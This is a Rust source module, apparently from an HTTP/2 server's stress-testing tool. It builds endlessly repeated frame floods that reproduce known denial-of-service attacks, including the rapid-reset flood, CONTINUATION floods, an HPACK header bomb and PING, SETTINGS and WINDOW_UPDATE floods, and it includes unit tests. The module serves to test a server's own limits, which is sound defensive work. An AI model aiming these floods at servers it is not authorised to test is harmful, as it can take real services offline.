//! Floods as octets: what `hostile` and `soak` throw at a server. Which limit of ours meets which: docs/limits.md.
//!
//! A flood is an opening, sent once, and a shot of one or more frames, sent again and again. Sockets are the caller's.

use std::fmt;
use std::mem;

use clap::ValueEnum;
use stagedoor_protocol::frame::{FrameHeader, HEADER_LEN, flag, kind};

use crate::config::PATH;
use crate::wire::{self, CANCEL, MAX_WINDOW, frame};

/// What a session is flooded with.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Flood {
    /// HEADERS and RST_STREAM(CANCEL), a new stream each time (CVE-2023-44487)
    Reset,
    /// A request, then WINDOW_UPDATE by nothing, so that the server resets (CVE-2025-8671)
    ProvokedReset,
    /// Requests that take a minute, beyond what may run at once
    RefusedStream,
    /// PING (CVE-2019-9512)
    Ping,
    /// SETTINGS without an entry (CVE-2019-9515)
    Settings,
    /// A header block without an end, in CONTINUATION frames of 16 octets (VU#421644)
    Continuation,
    /// The same with nothing in the frames (CVE-2019-9518)
    EmptyContinuation,
    /// A long entry of the header table, then a thousand references to it (CVE-2016-6581)
    HeaderBomb,
    /// Requests of ten thousand fields (CVE-2026-49975)
    HeaderFields,
    /// DATA with nothing in it (CVE-2019-9518)
    EmptyData,
    /// DATA of one octet to a handler that cannot go on
    SmallData,
    /// DATA of one octet on a stream that the server has reset
    GoneData,
    /// WINDOW_UPDATE by one octet (CVE-2019-9511)
    WindowUpdate,
    /// PRIORITY (CVE-2019-9513)
    Priority,
    /// PRIORITY_UPDATE
    PriorityUpdate,
    /// Frames of a type that nobody knows
    Unknown,
}

impl fmt::Display for Flood {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.pad(match self {
            Self::Reset => "reset flood",
            Self::ProvokedReset => "flood of provoked resets",
            Self::RefusedStream => "flood of refused streams",
            Self::Ping => "PING flood",
            Self::Settings => "SETTINGS flood",
            Self::Continuation => "CONTINUATION flood",
            Self::EmptyContinuation => "flood of empty CONTINUATION",
            Self::HeaderBomb => "header bomb",
            Self::HeaderFields => "flood of fields",
            Self::EmptyData => "flood of empty DATA",
            Self::SmallData => "flood of small DATA",
            Self::GoneData => "flood of DATA on a stream that is gone",
            Self::WindowUpdate => "WINDOW_UPDATE flood",
            Self::Priority => "PRIORITY flood",
            Self::PriorityUpdate => "PRIORITY_UPDATE flood",
            Self::Unknown => "flood of unknown frames",
        })
    }
}

impl Flood {
    /// Octets that a stream may have on their way to the flooding side: none where the handler must not go on.
    pub fn window(self) -> u32 {
        if self == Self::SmallData { 0 } else { MAX_WINDOW }
    }

    /// What is sent once, and what is sent again and again, on stream 1.
    fn parts(self, scheme: &str, authority: &str) -> (Vec<u8>, Vec<u8>) {
        let block = |method, path| wire::request(method, scheme, authority, path);
        let get = block("GET", PATH);
        let unfinished = || frame(kind::HEADERS, flag::END_STREAM, 1, &get);
        let upload = || wire::headers(1, &block("POST", "/echo"), false);
        match self {
            Self::Reset => (Vec::new(), [wire::headers(1, &get, true), wire::reset(1, CANCEL)].concat()),
            Self::ProvokedReset => {
                let slow = block("GET", "/delay/60");
                (Vec::new(), [wire::headers(1, &slow, true), wire::window_update(1, 0)].concat())
            }
            Self::RefusedStream => (Vec::new(), wire::headers(1, &block("GET", "/delay/60"), true)),
            Self::Ping => (Vec::new(), frame(kind::PING, 0, 0, b"not calm")),
            Self::Settings => (Vec::new(), frame(kind::SETTINGS, 0, 0, &[])),
            Self::Continuation => {
                (unfinished(), frame(kind::CONTINUATION, 0, 1, &wire::field("x-more", "of-them")))
            }
            Self::EmptyContinuation => (unfinished(), frame(kind::CONTINUATION, 0, 1, &[])),
            Self::HeaderBomb => (Vec::new(), wire::headers(1, &[get, bomb()].concat(), true)),
            // Entry 16 of the static table is a field of one octet on the wire.
            Self::HeaderFields => {
                (Vec::new(), wire::headers(1, &[get, vec![0x80 | 16; 10_000]].concat(), true))
            }
            Self::EmptyData => (upload(), frame(kind::DATA, 0, 1, &[])),
            Self::SmallData => (upload(), frame(kind::DATA, 0, 1, b".")),
            Self::GoneData => {
                // A body that is longer than it was said to be (§8.1.1).
                let block = [block("POST", "/echo"), wire::field("content-length", "1")].concat();
                let opening = [wire::headers(1, &block, false), frame(kind::DATA, 0, 1, b"..")].concat();
                (opening, frame(kind::DATA, 0, 1, b"."))
            }
            Self::WindowUpdate => (Vec::new(), wire::window_update(0, 1)),
            Self::Priority => (Vec::new(), frame(kind::PRIORITY, 0, 1, &[0, 0, 0, 0, 15])),
            Self::PriorityUpdate => (Vec::new(), frame(kind::PRIORITY_UPDATE, 0, 0, b"\0\0\0\x01u=1")),
            Self::Unknown => (Vec::new(), frame(0xfa, 0, 0, &[0; 1000])),
        }
    }

    /// Each shot is about a stream of its own.
    fn opens_streams(self) -> bool {
        use Flood::{HeaderBomb, HeaderFields, ProvokedReset, RefusedStream, Reset};
        matches!(self, Reset | ProvokedReset | RefusedStream | HeaderBomb | HeaderFields)
    }
}

/// A field of nearly 4 KiB that enters the table (RFC 7541 §6.2.1), and a thousand times that entry (§6.1).
fn bomb() -> Vec<u8> {
    const VALUE: usize = 4000;
    let mut block = vec![0x40, 1, b'x'];
    // A length of seven bits and more (§5.1).
    block.extend_from_slice(&[0x7f, ((VALUE - 127) % 128) as u8 | 0x80, ((VALUE - 127) / 128) as u8]);
    block.extend_from_slice(&[b'y'; VALUE]);
    block.extend_from_slice(&[0x80 | 62; 1000]);
    block
}

/// The octets of a flood, for as long as one likes.
#[derive(Debug)]
pub struct Shots {
    magazine: Vec<u8>,
    /// Octets in front of the magazine that are sent once.
    opening: usize,
    at: usize,
    /// Octets of a shot, and its frames.
    length: usize,
    frames: u64,
    /// Where in a shot its stream stands, when each has one of its own.
    streams: Vec<usize>,
    next_stream: u32,
    sent: u64,
}

impl Shots {
    /// Against `authority`.
    pub fn new(flood: Flood, scheme: &str, authority: &str) -> Self {
        let (opening, shot) = flood.parts(scheme, authority);
        let starts = frames_of(&shot);
        let mut shots = Self {
            magazine: [opening.clone(), shot.repeat((MAGAZINE / shot.len()).max(1))].concat(),
            opening: opening.len(),
            at: 0,
            length: shot.len(),
            frames: starts.len() as u64,
            streams: if flood.opens_streams() { starts } else { Vec::new() },
            next_stream: 1,
            sent: 0,
        };
        shots.renumber();
        shots
    }

    /// What is to be sent now; never empty.
    pub fn waiting(&self) -> &[u8] {
        self.magazine.get(self.at..).unwrap_or_default()
    }

    /// So many of them were.
    pub fn fired(&mut self, octets: usize) {
        self.sent += octets as u64;
        self.at += octets;
        if self.at >= self.magazine.len() {
            self.magazine.drain(..mem::take(&mut self.opening));
            self.at = 0;
            self.renumber();
        }
    }

    /// No stream is left for another magazine.
    pub fn spent(&self) -> bool {
        self.next_stream > MAX_WINDOW - 2 * MAGAZINE as u32
    }

    /// Octets that were sent.
    pub fn octets(&self) -> u64 {
        self.sent
    }

    /// Frames among them, the opening counted as if it were shots.
    pub fn frames(&self) -> u64 {
        self.sent * self.frames / self.length as u64
    }

    fn renumber(&mut self) {
        if self.streams.is_empty() {
            return;
        }
        for shot in self.magazine.chunks_exact_mut(self.length) {
            for &start in &self.streams {
                let place = start + STREAM_AT;
                shot[place..place + 4].copy_from_slice(&self.next_stream.to_be_bytes());
            }
            self.next_stream += 2;
        }
    }
}

/// Where frames begin.
fn frames_of(octets: &[u8]) -> Vec<usize> {
    let mut starts = Vec::new();
    let mut at = 0;
    while let Some(header) = octets.get(at..).and_then(|rest| rest.first_chunk::<HEADER_LEN>()) {
        starts.push(at);
        at += HEADER_LEN + FrameHeader::parse(header).length as usize;
    }
    starts
}

/// Octets that are written at once.
const MAGAZINE: usize = 64 << 10;
/// Where a frame's stream stands.
const STREAM_AT: usize = 5;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::wire::{Frame, Frames};

    /// The frames of so many magazines.
    fn fire(flood: Flood, magazines: usize) -> (Shots, Vec<Frame>) {
        let mut shots = Shots::new(flood, "http", "localhost:1");
        let mut frames = Frames::default();
        for _ in 0..magazines {
            let octets = shots.waiting().to_vec();
            frames.push(&octets);
            shots.fired(octets.len());
        }
        (shots, frames.collect())
    }

    #[test]
    fn every_pair_of_a_reset_flood_has_a_stream_of_its_own() {
        let (shots, frames) = fire(Flood::Reset, 3);
        assert_eq!(frames.len() as u64, shots.frames());
        for (number, pair) in frames.chunks_exact(2).enumerate() {
            assert_eq!((pair[0].kind, pair[1].kind), (kind::HEADERS, kind::RST_STREAM));
            assert_eq!([pair[0].stream, pair[1].stream], [1 + 2 * number as u32; 2]);
        }
    }

    #[test]
    fn a_block_without_an_end_begins_once() {
        let (_, frames) = fire(Flood::Continuation, 2);
        let (first, more) = frames.split_first().unwrap();
        assert_eq!((first.kind, first.flags, first.stream), (kind::HEADERS, flag::END_STREAM, 1));
        assert!(more.len() > 2 * (MAGAZINE / 25 - 1));
        for frame in more {
            assert_eq!((frame.kind, frame.flags, frame.stream), (kind::CONTINUATION, 0, 1));
            assert_eq!(frame.payload.len(), 16);
        }
    }

    #[test]
    fn a_bomb_is_small_on_the_wire_and_large_behind_the_decoder() {
        let (_, frames) = fire(Flood::HeaderBomb, 1);
        assert!(frames[0].payload.len() < 6_000);
        let fields = hpack::Decoder::new().decode(&frames[0].payload).unwrap();
        let octets: usize = fields.iter().map(|(name, value)| name.len() + value.len()).sum();
        assert!(octets > 4_000_000, "{octets}");
    }

    #[test]
    fn every_flood_is_whole_frames_and_does_not_end() {
        for flood in Flood::value_variants() {
            let (shots, frames) = fire(*flood, 3);
            let octets: usize = frames.iter().map(|frame| HEADER_LEN + frame.payload.len()).sum();
            assert_eq!(octets as u64, shots.octets(), "{flood}");
            assert!(!shots.waiting().is_empty(), "{flood}");
        }
    }
}
